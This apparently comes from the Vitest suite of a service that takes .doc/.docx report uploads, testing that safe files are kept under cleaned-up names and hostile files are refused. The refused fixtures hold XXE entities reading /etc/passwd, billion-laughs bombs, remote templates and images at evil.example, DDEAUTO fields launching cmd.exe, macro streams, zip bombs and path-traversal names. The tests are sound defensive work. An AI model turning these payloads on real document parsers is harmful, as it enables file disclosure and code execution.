import { randomBytes } from 'node:crypto'
import { monitorEventLoopDelay } from 'node:perf_hooks'

import { strToU8, zipSync } from 'fflate'
import { expect, test } from 'vitest'

import { startApp } from '../../../../test/app.ts'
import { aReportDesk, announcing, doc, docx, relations } from '../../../../test/reports.ts'
import { keysIn } from '../../../../test/uploads.ts'

const app = await startApp()
const { owner, newProject, add, linkFor, get } = await aReportDesk(app)
const megabyte = 1024 * 1024
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const withBody = (inner: string, part = 'word/document.xml') =>
  docx({
    [part]: `<w:document xmlns:w="urn:w" xmlns:v="urn:v" xmlns:o="urn:o" xmlns:r="urn:r">${inner}</w:document>`,
  })
/** A field whose instruction comes in one piece or several. */
const field = (...pieces: string[]) =>
  `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => (piece.startsWith('<') ? piece : `<w:instrText>${piece.replaceAll('"', '&quot;')}</w:instrText>`)).join('')}<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>`
const utf16 = (xml: string) =>
  new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]))

test.each<[string, Buffer, string, string]>([
  ['a .docx', docx(), 'My thesis.docx', 'My thesis.docx'],
  ['a .doc', doc(), 'thesis.doc', 'thesis.doc'],
  ['a .docx that is called .doc', docx(), 'thesis.doc', 'thesis.docx'],
  ['a .doc that is called nothing in particular', doc(), 'thesis', 'thesis.doc'],
  ['a .docx with a path for a name', docx(), '../../etc/pass\u202Ewd.html', 'passwd.docx'],
  ['a .docx with signs that Windows does not allow', docx(), 'Thesis: final?.docx', 'Thesis final.docx'],
  ['a .docx with a name that Windows reserves', docx(), 'aux.docx', 'project-report.docx'],
  [
    'a .docx with links to pages and emails',
    docx({
      'word/_rels/document.xml.rels': relations(
        `<Relationship Id="1" Type="${office}/hyperlink" Target="https://example.in/?a=1&amp;b=2>3" TargetMode="External"/>
         <Relationship Type='${office}/hyperlink' Id='2' TargetMode='External' Target='mailto:asha@example.in'/>
         <Relationship Id="3" Type="http://x/styles" Target="styles.xml" TargetMode="Internal"/>`,
      ),
    }),
    'a.docx',
    'a.docx',
  ],
  [
    'a .docx with page numbers, a table of contents, citations and links',
    withBody(
      field('PAGE') +
        field(' TOC \\o "1-3" \\h ') +
        field(' ADDIN CSL_CITATION {"schema": "https://github.com/citation"} ') +
        field(' HYPERLINK "https://example.in" \\o "tip" ') +
        field(' HYPERLINK \\l "_Toc1" ') +
        field(' IF ', field('PAGE'), ' &gt; 1 "a" "b" ') +
        '<w:fldSimple w:instr=" DATE "/><v:shape href="https://example.in"><v:imagedata r:id="a"/></v:shape>',
    ),
    'a.docx',
    'a.docx',
  ],
  [
    'a .docx with a chart and its numbers, and with UTF-16',
    docx({
      'word/charts/_rels/chart1.xml.rels': relations(
        `<Relationship Id="1" Type="${office}/package" Target="../embeddings/Sheet1.xlsx"/>`,
      ),
      'word/embeddings/Sheet1.xlsx': 'PK',
      'customXml/item1.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><a/>'),
      'word/media/image1.png': new Uint8Array([137, 80, 78, 71]),
    }),
    'a.docx',
    'a.docx',
  ],
])('%s is taken, under a name that fits', async (_name, file, name, kept) => {
  const id = await newProject()
  expect(await add(id, file, 99.5, name)).toMatchObject({
    hasReport: true,
    reportPrice: 99.5,
    reportFileName: kept,
  })
  const { downloadUrl, fileName } = await linkFor(owner, id)
  expect(fileName).toBe(kept)
  expect((await get(downloadUrl)).rawPayload.equals(file)).toBe(true)
})

const template = (attributes: string) =>
  docx({ 'word/_rels/settings.xml.rels': relations(`<Relationship Id="1" ${attributes}/>`) })
/** A .doc with an entry of its directory, as a stream (2) or a storage (1). */
const oleWith = (name: string, type: number) => {
  const entry = Buffer.alloc(128)
  entry.write(name, 'utf16le')
  entry.writeUInt16LE(2 * name.length + 2, 64)
  entry[66] = type
  return doc(Buffer.concat([Buffer.alloc(504), Buffer.alloc(1024), entry]))
}
const xxe =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
const laughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>`

test.each<[string, Buffer]>([
  ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a PDF', Buffer.from('%PDF-1.7\n')],
  ['a program', Buffer.concat([Buffer.from('MZ'), randomBytes(500)])],
  ['a ZIP without a document', Buffer.from(zipSync({ 'a.txt': strToU8('a') }))],
  [
    'a spreadsheet',
    Buffer.from(zipSync({ 'xl/workbook.xml': strToU8('<x/>'), '[Content_Types].xml': strToU8('<x/>') })),
  ],
  ['half a .docx', docx().subarray(0, 300)],
  ['a .docm', docx({ 'word/vbaProject.bin': 'x' })],
  ['a .docm with a shout', docx({ 'word/VBAPROJECT.BIN': 'x' })],
  [
    'a .docm by its types',
    docx({
      '[Content_Types].xml':
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
  ],
  ['a .doc with macros', oleWith('_VBA_PROJECT', 2)],
  ['a document with an outer entity', docx({ 'word/document.xml': xxe })],
  ['a document with an outer entity in UTF-16', docx({ 'word/document.xml': utf16(xxe) })],
  ['a document with an outer entity in a part', docx({ 'customXml/item1.xml': xxe })],
  ['a document of billion laughs', docx({ 'word/document.xml': laughs })],
  [
    'an outer template',
    template('Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"'),
  ],
  [
    'an outer template, attributes the other way',
    template("TargetMode = 'External' Target='a>b' Type='http://x/attachedTemplate'"),
  ],
  [
    'an outer template, spelt strangely',
    template('Type="http://x/attachedTempl&#97;te" Target="x" TargetMode="&#69;xternal"'),
  ],
  [
    'an outer template, beyond understanding',
    template('Type="http://x/hyperlink" Target="x" junk TargetMode="External"'),
  ],
  [
    'an outer template in UTF-16',
    docx({
      'word/_rels/s.rels': utf16(
        relations('<Relationship Type="x/attachedTemplate" TargetMode="External"/>'),
      ),
    }),
  ],
  [
    'an outer frame',
    docx({
      'word/_rels/webSettings.xml.rels': relations(
        '<r:Relationship Type="x/frame" Target="x" TargetMode="External"/>',
      ),
    }),
  ],
  ['a bomb', announcing(docx({ 'word/media/bomb.bin': 'x' }), 'word/media/bomb.bin', 210 * megabyte)],
  ['a bomb of XML', announcing(docx({ 'word/bomb.xml': 'x' }), 'word/bomb.xml', 65 * megabyte)],
  [
    'a document of too many parts',
    docx(Object.fromEntries(Array.from({ length: 2000 }, (_, n) => [`word/${n}.bin`, '']))),
  ],
])('%s is refused, and nothing is kept', async (_name, file) => {
  const id = await newProject()
  const before = await keysIn(app.parts.storage)
  await expect(add(id, file, 10)).rejects.toMatchObject({
    code: 'unsupported_type',
    message: expect.stringMatching(/^The report (must be|cannot be|holds|refers|is protected)/),
  })
  expect(await keysIn(app.parts.storage)).toEqual(before)
  expect((await owner.api.projects.get({ params: { id } })).project.hasReport).toBe(false)
})

test('a document whose parts are larger than they say is refused', async () => {
  const bytes = announcing(
    docx({ 'word/document.xml': `<x>${'a'.repeat(100_000)}</x>` }),
    'word/document.xml',
    100,
  )
  await expect(add(await newProject(), bytes, 10)).rejects.toMatchObject({ code: 'unsupported_type' })
})

test('a report over 20 MB is refused by name', async () => {
  const big = doc(Buffer.alloc(20 * megabyte))
  await expect(add(await newProject(), big, 10)).rejects.toMatchObject({
    code: 'too_large',
    message: 'report.docx exceeds 20MB limit',
  })
})

const relation = (attributes: string, part = 'word/_rels/document.xml.rels') =>
  docx({ [part]: relations(`<Relationship Id="1" ${attributes}/>`) })
const outside = /^The report refers to something outside/
const fetching = /^The report holds a field that fetches or runs something/
const embedded = /^The report holds an embedded object/
const macros = /^The report holds macros/
const tooMuch = /^The report holds too much/
const broken = /^The report cannot be read/

test.each<[string, Buffer, RegExp]>([
  [
    'a template whose address pretends to be a link',
    template(
      `Type="${office}/attachedTemplate" Target="http://evil.example/? Type='/hyperlink'" TargetMode="External"`,
    ),
    outside,
  ],
  [
    'a picture on the web',
    relation(`Type="${office}/image" Target="https://evil.example/a.png" TargetMode="External"`),
    outside,
  ],
  [
    'a picture on another machine',
    relation(`Type="${office}/image" Target="\\\\evil\\share\\a.png" TargetMode="External"`),
    outside,
  ],
  [
    'a picture on another machine, called inner',
    relation(`Type="${office}/image" Target="\\\\evil\\a.png"`),
    outside,
  ],
  [
    'a picture of another scheme, called inner',
    relation(`Type="${office}/image" Target="file:///etc/a.png"`),
    outside,
  ],
  ['an address in disguise', relation(`Type="${office}/image" Target="%5c%5cevil%5ca.png"`), outside],
  [
    'an address with entities',
    relation(`Type="${office}/image" Target="&#104;ttp://evil.example/a"`),
    outside,
  ],
  [
    'a third mode',
    relation(`Type="${office}/hyperlink" Target="https://a.in" TargetMode="external"`),
    outside,
  ],
  [
    'a link to a file',
    relation(`Type="${office}/hyperlink" Target="file:///C:/a.exe" TargetMode="External"`),
    outside,
  ],
  [
    'a link that runs',
    relation(`Type="${office}/hyperlink" Target="javascript:alert(1)" TargetMode="External"`),
    outside,
  ],
  [
    'a type that only ends like a link',
    relation('Type="http://evil.example/hyperlink" Target="https://a.in" TargetMode="External"'),
    outside,
  ],
  ['an old picture on the web', withBody('<v:imagedata src="https://evil.example/a.png"/>'), outside],
  ['an old picture on another machine', withBody('<v:imagedata o:href="\\\\evil\\a.png"/>'), outside],
  ['mail merge data', withBody('<w:mailMerge/>', 'word/settings.xml'), outside],
  ['an altChunk', withBody('<w:altChunk r:id="1"/>'), embedded],
  ['an altChunk by its relation', relation(`Type="${office}/aFChunk" Target="a.html"`), embedded],
  ['a subdocument', withBody('<w:subDoc r:id="1"/>'), embedded],
  ['an OLE object', withBody('<o:OLEObject Type="Link"/>'), embedded],
  ['an ActiveX control', docx({ 'word/activeX/activeX1.bin': 'x' }), embedded],
  ['an embedded file', docx({ 'word/embeddings/oleObject1.bin': 'x' }), embedded],
  [
    'an embedded workbook that is no chart',
    relation(`Type="${office}/package" Target="embeddings/a.xlsx"`),
    embedded,
  ],
  ['a frame', relation(`Type="${office}/frame" Target="a.xml"`, 'word/_rels/webSettings.xml.rels'), embedded],
  ['DDE', withBody(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), fetching],
  ['DDE in pieces', withBody(field('DD', 'E', 'AUTO ', 'cmd')), fetching],
  ['DDE in a header', withBody(field(' ddeauto cmd'), 'word/header1.xml'), fetching],
  ['DDE in a footnote', withBody('<w:fldSimple w:instr=" DDE cmd"/>', 'word/footnotes.xml'), fetching],
  ['DDE in a part that is called a picture', withBody(field('DDE cmd'), 'word/media/image1.png'), fetching],
  ['DDE spelt by another field', withBody(field(field('QUOTE 68 68 69'), ' cmd')), fetching],
  ['DDE spelt by another field in part', withBody(field('D', field('QUOTE 68 69'), ' cmd')), fetching],
  [
    'DDE without an end',
    withBody('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText>'),
    fetching,
  ],
  ['a fetched picture', withBody(field('INCLUDEPICTURE "http://evil.example/a.png"')), fetching],
  ['a fetched text', withBody(field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')), fetching],
  ['a field that links to another machine', withBody(field('HYPERLINK "\\\\\\\\evil\\\\a"')), outside],
  ['a field that links to a file', withBody(field('HYPERLINK \\o "http://a.in" "file:///c:/a"')), outside],
  ['a field that links without end', withBody(field(`HYPERLINK ${'"'.repeat(100_000)}`)), fetching],
  ['names that differ only in case', docx({ '[content_types].xml': '<Types/>' }), broken],
  ['names that differ only in spelling', docx({ 'word/d%6fcument.xml': '<a/>' }), broken],
  ['macros under another name', docx({ 'word/vba%50roject.bin': 'x' }), macros],
  ['unfinished XML', docx({ 'word/header1.xml': '<a><b></a>' }), broken],
  ['an entity of its own', docx({ 'word/header1.xml': '<a>&lol;</a>' }), broken],
  ['another encoding', docx({ 'word/header1.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }), broken],
  [
    'a lie about its encoding',
    docx({ 'word/header1.xml': '<?xml version="1.0" encoding="UTF-16"?><a/>' }),
    broken,
  ],
  ['elements in elements', docx({ 'word/header1.xml': '<a>'.repeat(50_000) }), broken],
  [
    'attributes without end',
    docx({ 'word/header1.xml': `<a ${Array.from({ length: 50_000 }, (_, n) => `a${n}="1"`).join(' ')}/>` }),
    broken,
  ],
  ['a part that unfolds a thousandfold', docx({ 'word/media/a.bmp': new Uint8Array(8 * megabyte) }), tooMuch],
  ['a locked .doc', oleWith('EncryptedPackage', 2), /^The report is protected with a password/],
  ['a .doc with a storage for macros', oleWith('Macros', 1), macros],
  ['a .doc with an embedded file', oleWith('\u0001Ole10Native', 2), embedded],
  ['a .doc with a form control', oleWith('\u0003OCXNAME', 2), embedded],
  ['a .doc with DDE', doc(Buffer.from('\x13 DDEAUTO cmd \x14x\x15')), fetching],
  ['a .doc with DDE in wide letters', doc(Buffer.from('\x13DDE "cmd"', 'utf16le')), fetching],
])('%s is refused, with what to do about it', async (_name, file, message) => {
  await expect(add(await newProject(), file, 10)).rejects.toMatchObject({
    code: 'unsupported_type',
    message: expect.stringMatching(message),
  })
})

test('a .doc that only speaks of macros and DDE is taken', async () => {
  const text = 'Macros, _VBA_PROJECT and DDEAUTO are explained in chapter 3.'
  await add(await newProject(), doc(Buffer.from(text + '\0'.repeat(400))), 10)
  await add(await newProject(), doc(Buffer.from(text, 'utf16le')), 10)
})

test('a large text is read in bounded time, in pieces', async () => {
  const text = `<a>${Array.from({ length: 500_000 }, (_, n) => `<w b="${n % 997}">text &amp; more ${n}</w>`).join('')}</a>`
  const delay = monitorEventLoopDelay({ resolution: 5 })
  const file = docx({ 'word/header1.xml': text })
  delay.enable()
  await add(await newProject(), file, 10)
  delay.disable()
  expect(delay.max / 1e6).toBeLessThan(500)
})
